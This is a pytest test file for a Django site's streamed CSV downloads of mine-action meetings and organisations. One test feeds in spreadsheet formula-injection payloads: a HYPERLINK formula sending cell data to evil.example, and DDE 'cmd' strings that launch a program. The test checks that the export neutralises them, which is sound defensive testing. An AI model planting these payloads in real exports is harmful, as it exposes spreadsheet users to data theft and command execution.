"""CSV downloads: every matching meeting, streamed, safe to open in a spreadsheet."""

import csv
import datetime
import io
import re
import threading
import tracemalloc

import pytest
from django.db import connection
from django.utils import timezone

from events import chunks, exports
from events.models import Meeting, MeetingOrganisation, Organisation, Status, Topic

from .factories import make_delegation, make_meeting, make_organisation, make_source, make_topic
from .pages import meeting_titles, soup

pytestmark = pytest.mark.django_db


def read_csv(response) -> list[dict[str, str]]:
    assert response.status_code == 200
    assert response.streaming
    text = b"".join(response.streaming_content).decode("utf-8")
    return list(csv.DictReader(io.StringIO(text)))


def timeline_total(client, params: str = "") -> int:
    """The count the timeline's heading gives for these parameters."""
    lede = soup(client.get(f"/?{params}")).select_one(".lede").get_text()
    return int(re.match(r"(\d+)", lede).group(1))


def test_a_meeting_row_has_every_column(client, records):
    rows = {row["slug"]: row for row in read_csv(client.get("/export/meetings.csv"))}
    row = rows["anama-meets-tmac"]
    assert list(row) == [
        "slug",
        "title",
        "kind",
        "subtype",
        "start_date",
        "end_date",
        "date_precision",
        "date",
        "date_as_reported",
        "country",
        "country_name",
        "city",
        "venue",
        "mode",
        "visiting_country",
        "countries_taking_part",
        "delegation",
        "organisations",
        "participants",
        "participants_as_reported",
        "topics",
        "summary",
        "outcomes",
        "editorial_note",
        "sources",
        "url",
        "updated_at",
    ]
    assert row["title"] == "ANAMA meets TMAC"
    assert (row["start_date"], row["end_date"], row["date"]) == (
        "2024-08-22",
        "2024-08-23",
        "22–23 August 2024",
    )
    assert (row["country"], row["country_name"], row["city"], row["venue"]) == (
        "TH",
        "Thailand",
        "Bangkok",
        "TMAC headquarters",
    )
    assert (row["mode"], row["visiting_country"]) == ("in_person", "")
    assert row["countries_taking_part"] == "AZ; KH; TH"  # held in TH; the organisations' and the trip's
    assert row["delegation"] == "Trip to Southeast Asia"
    assert row["organisations"] == (
        "Thailand Mine Action Centre (host); ASEAN Regional Mine Action Center (organiser); "
        "Mine Action Agency of Azerbaijan (visiting delegation)"
    )
    assert row["participants"] == "V. Suleymanov (Chair); Rotna But (Executive Director)"
    assert row["topics"] == "Joint training"
    assert row["outcomes"] == "Invitation: ANAMA invited TMAC to a conference."
    assert row["sources"] == "https://news.example.org/x"
    assert row["url"] == "http://testserver/meetings/anama-meets-tmac/"
    assert rows["second-round"]["delegation"] == ""  # its delegation is a draft


def test_the_download_is_utf8_with_a_dated_file_name(client, records):
    make_meeting(title="Hội thảo ở Đà Nẵng — 会议", city="Đà Nẵng", country="VN")
    response = client.get("/export/meetings.csv")
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    today = timezone.localdate().isoformat()
    assert response["Content-Disposition"] == f'attachment; filename="mineaction-meetings-{today}.csv"'
    assert "Hội thảo ở Đà Nẵng — 会议" in {row["title"] for row in read_csv(response)}


def test_it_holds_every_matching_meeting_not_one_page(client, records, settings):
    for number in range(30):
        make_meeting(
            title=f"Extra {number}", country="KH", start_date=datetime.date(2020, 1, 1 + number % 28)
        )
    assert settings.TIMELINE_PAGE_SIZE < 33
    for params in ("", "country=KH", "year=2020&sort=oldest", "q=extra", "org=anama"):
        rows = read_csv(client.get(f"/export/meetings.csv?{params}"))
        assert len(rows) == timeline_total(client, params), params


def test_rows_follow_the_timelines_order(client, records):
    oldest = [row["slug"] for row in read_csv(client.get("/export/meetings.csv?sort=oldest"))]
    assert oldest == ["border-talks", "anama-meets-tmac", "second-round"]
    newest = [row["slug"] for row in read_csv(client.get("/export/meetings.csv"))]
    assert newest == oldest[::-1]


def test_drafts_never_appear(client, records):
    text = b"".join(client.get("/export/meetings.csv?org=anama").streaming_content).decode()
    assert "Draft visit" not in text and "Unpublished trip" not in text and "Draft contact" not in text
    organisations = read_csv(client.get("/export/organisations.csv"))
    anama = next(row for row in organisations if row["slug"] == "anama")
    assert anama["meetings"] == "2"  # not the draft


@pytest.mark.parametrize(
    "params",
    ["country=XX&country=KH", "org=nope&country=KH", "date_from=yesterday&country=KH", "page=abc&country=KH"],
)
def test_bad_parameters_are_handled_as_on_the_timeline(client, records, params):
    """Dropped, with the other filters still applying: the same rows the page lists."""
    rows = read_csv(client.get(f"/export/meetings.csv?{params}"))
    assert {row["title"] for row in rows} == set(meeting_titles(client.get(f"/?{params}")))
    assert {row["slug"] for row in rows} == {"border-talks", "anama-meets-tmac"}  # ARMAC is from KH


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_cells_that_look_like_formulas_are_neutralised(client, start):
    formula = f'{start}HYPERLINK("https://evil.example/?"&A1,"Click")'
    make_meeting(
        title=formula,
        summary=f"{start}1+1",
        city=f"{start}cmd|' /C calc'!A0",
        venue=f"{start}cmd|' /C calc'!A1",
        slug="formula",
    )
    make_organisation(name=f"{start}SUM(A1:A9)", slug="formula-org").meeting_roles.create(
        meeting=Meeting.objects.get(slug="formula"), role="host"
    )
    row = read_csv(client.get("/export/meetings.csv"))[0]
    assert row["title"] == f"'{formula}"
    assert row["summary"] == f"'{start}1+1"
    assert row["city"] == f"'{start}cmd|' /C calc'!A0"
    assert row["venue"] == f"'{start}cmd|' /C calc'!A1"
    assert row["organisations"] == f"'{start}SUM(A1:A9) (host)"
    organisation = read_csv(client.get("/export/organisations.csv"))[0]
    assert organisation["name"] == f"'{start}SUM(A1:A9)"


def test_safe_cell_leaves_ordinary_text_alone():
    assert exports.safe_cell("ANAMA meets TMAC") == "ANAMA meets TMAC"
    assert exports.safe_cell("2024-08-22") == "2024-08-22"
    assert exports.safe_cell("In = out") == "In = out"
    assert exports.safe_cell(None) == ""
    assert exports.safe_cell(3) == "3"


def test_the_organisations_download_lists_the_organisations_of_the_matching_meetings(client, records):
    rows = read_csv(client.get("/export/organisations.csv?q=border"))
    assert rows == []  # Border talks has no organisations
    rows = {
        row["slug"]: row for row in read_csv(client.get("/export/organisations.csv?topic=joint-training"))
    }
    assert set(rows) == {"anama", "tmac", "armac"}
    anama = rows["anama"]
    assert (anama["name"], anama["acronym"], anama["kind"]) == (
        "Mine Action Agency of Azerbaijan",
        "ANAMA",
        "national_authority",
    )
    assert (anama["country"], anama["country_name"]) == ("AZ", "Azerbaijan")
    assert anama["other_names"] == "Azerbaijan National Agency for Mine Action"
    assert (anama["meetings"], anama["first_meeting"], anama["last_meeting"]) == (
        "1",
        "2024-08-22",
        "2024-08-22",
    )
    assert anama["url"] == "http://testserver/organisations/anama/"
    everything = {row["slug"]: row for row in read_csv(client.get("/export/organisations.csv"))}
    assert everything["anama"]["last_meeting"] == "2025-02-01"
    response = client.get("/export/organisations.csv")
    assert "mineaction-organisations-" in response["Content-Disposition"]


def test_queries_per_download_do_not_grow_with_rows_within_a_chunk(
    client, records, django_assert_num_queries, monkeypatch
):
    # The rows Python writes (on PostgreSQL the database writes them in one COPY).
    monkeypatch.setattr(exports, "WRITTEN_BY_POSTGRESQL", False)
    url = "/export/meetings.csv?org=anama"
    client.get(url)
    # filter lookup + meetings + organisations, participants, participants as reported, topics,
    # outcomes, sources, countries taking part
    with django_assert_num_queries(9):
        read_csv(client.get(url))
    for _ in range(20):
        make_meeting(organisations=[records["anama"], make_organisation()], topics=[records["training"]])
    with django_assert_num_queries(9):
        assert len(read_csv(client.get(url))) == 22


def make_synthetic_meetings(count: int, year: int) -> None:
    """``count`` published meetings in ``year``, each with two organisations and a topic, in bulk."""
    first = Meeting.objects.count()
    organisations = Organisation.objects.bulk_create(
        Organisation(name=f"Synthetic organisation {year}-{n}", slug=f"synthetic-{year}-{n}")
        for n in range(20)
    )
    topic = Topic.objects.create(name=f"Synthetic topic {year}", slug=f"synthetic-topic-{year}")
    meetings = Meeting.objects.bulk_create(
        Meeting(
            title=f"Synthetic meeting {first + n}",
            slug=f"synthetic-{first + n}",
            start_date=datetime.date(year, 1 + n % 12, 1 + n % 28),
            country="TH",
            summary="A synthetic meeting for measuring downloads. " * 4,
            status=Status.PUBLISHED,
        )
        for n in range(count)
    )
    MeetingOrganisation.objects.bulk_create(
        MeetingOrganisation(
            meeting=meeting, organisation=organisations[(n + k) % 20], role=role, role_order=k
        )
        for n, meeting in enumerate(meetings)
        for k, role in enumerate(["host", "participant"])
    )
    Meeting.topics.through.objects.bulk_create(
        Meeting.topics.through(meeting=meeting, topic=topic) for meeting in meetings
    )


def peak_memory_of_download(client, url: str) -> tuple[int, int]:
    """(data rows, peak bytes allocated) while reading the whole download."""
    tracemalloc.start()
    try:
        rows = sum(piece.count(b"\n") for piece in client.get(url).streaming_content) - 1
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    return rows, peak


def test_memory_stays_flat_however_many_rows(client):
    make_synthetic_meetings(2 * chunks.CHUNK_SIZE, year=2019)
    make_synthetic_meetings(6 * chunks.CHUNK_SIZE, year=2020)
    peak_memory_of_download(client, "/export/meetings.csv?year=1900")  # warm up
    small_rows, small_peak = peak_memory_of_download(client, "/export/meetings.csv?year=2019")
    large_rows, large_peak = peak_memory_of_download(client, "/export/meetings.csv")
    assert (small_rows, large_rows) == (2 * chunks.CHUNK_SIZE, 8 * chunks.CHUNK_SIZE)
    # Four times the rows, about the same memory: one chunk at a time, never the whole set.
    assert large_peak < 1.5 * small_peak, (small_peak, large_peak)


@pytest.mark.django_db(transaction=True)
def test_a_helper_thread_reads_the_next_chunks_lists_and_rows_stay_matched(client, monkeypatch):
    """Outside a transaction the lists are read ahead by a helper thread; no row gets another's lists."""
    monkeypatch.setattr(chunks, "CHUNK_SIZE", 2)
    monkeypatch.setattr(exports, "WRITTEN_BY_POSTGRESQL", False)
    readers: list[str] = []
    read_lists = exports.meeting_lists

    def spy(ids):
        readers.append(threading.current_thread().name)
        return read_lists(ids)

    monkeypatch.setattr(exports, "meeting_lists", spy)
    for number in range(7):
        make_meeting(
            title=f"Chunked meeting {number}",
            start_date=datetime.date(2020, 1, 1 + number),
            organisations=[make_organisation(name=f"Host number {number}")],
        )
    rows = read_csv(client.get("/export/meetings.csv"))
    assert len(rows) == 7
    for row in rows:
        number = row["title"].rsplit(" ", 1)[1]
        assert row["organisations"] == f"Host number {number} (participant)"
    assert len(readers) == 4  # 7 meetings in chunks of 2
    assert all(name.startswith("export-lists") for name in readers)


def test_a_slug_that_starts_like_a_formula_is_neutralised(client):
    make_meeting(title="Odd slug", slug="-a1")
    rows = read_csv(client.get("/export/meetings.csv"))
    assert rows[0]["slug"] == "'-a1"


@pytest.fixture
def varied_meetings(records):
    """Meetings with every date wording, text that needs quoting or neutralising, and every list."""
    host = make_organisation(name='=Host, "quoted"', acronym="HQ")
    guest = make_organisation(name="Guest\nwith a line break", acronym="")
    topic_a, topic_b = make_topic(name="Zeta topic"), make_topic(name="Alpha topic")
    dated = [
        ("day", datetime.date(2023, 5, 3), None),
        ("day", datetime.date(2023, 5, 3), datetime.date(2023, 5, 5)),
        ("day", datetime.date(2023, 5, 30), datetime.date(2023, 6, 2)),
        ("day", datetime.date(2023, 12, 30), datetime.date(2024, 1, 2)),
        ("week", datetime.date(2022, 1, 3), None),
        ("month", datetime.date(2021, 7, 1), None),
        ("year", datetime.date(2020, 1, 1), None),
        ("on_or_before", datetime.date(2019, 2, 9), None),
    ]
    for number, (precision, start, end) in enumerate(dated):
        meeting = make_meeting(
            title=f"+Varied meeting {number}, with a comma",
            start_date=start,
            end_date=end,
            date_precision=precision,
            date_as_reported="-early May" if number % 2 else "",
            country="" if number == 3 else "KH",
            city="@Siem Reap" if number == 1 else "",
            summary='A summary with "quotes",\nlines and ünïcode.',
            editorial_note="=1+1" if number == 2 else "",
            organisations=[(host, "host"), (guest, "participant"), (records["anama"], "organiser")],
            participants=["Chea Sok", {"name_as_written": "Dara Kim", "title_as_stated": "Director"}],
            topics=[topic_a, topic_b],
            sources=[make_source(), make_source(published_on=None)],
            delegation=make_delegation(status=Status.DRAFT if number % 2 else Status.PUBLISHED),
        )
        meeting.outcomes.create(kind="agreement", text="Signed a memorandum.")
        meeting.outcomes.create(kind="other", text="-More to follow")


@pytest.mark.skipif(connection.vendor != "postgresql", reason="only PostgreSQL writes the CSV itself")
@pytest.mark.parametrize(
    "params",
    [
        "",
        "country=KH",
        "sort=oldest",
        "q=quotes&sort=relevance",
        "org=anama&year=2023",
        "q=nothing+matches",
    ],
)
def test_postgresql_writes_exactly_the_rows_python_writes(client, varied_meetings, monkeypatch, params):
    by_database = read_csv(client.get(f"/export/meetings.csv?{params}"))
    monkeypatch.setattr(exports, "WRITTEN_BY_POSTGRESQL", False)
    by_python = read_csv(client.get(f"/export/meetings.csv?{params}"))
    assert by_database == by_python
    if params != "q=nothing+matches":
        assert len(by_python) >= 2


def test_an_online_meeting_reads_otherwise_than_one_whose_place_is_not_known(client):
    make_meeting(slug="video-link", mode="online", country="", stated_countries=["KH", "TH"])
    make_meeting(slug="place-unknown", country="", visiting_country="KH")
    rows = {row["slug"]: row for row in read_csv(client.get("/export/meetings.csv"))}
    online, unknown = rows["video-link"], rows["place-unknown"]
    assert (online["mode"], online["country"], online["countries_taking_part"]) == ("online", "", "KH; TH")
    assert (unknown["mode"], unknown["country"], unknown["visiting_country"]) == ("in_person", "", "KH")
    assert unknown["countries_taking_part"] == "KH"
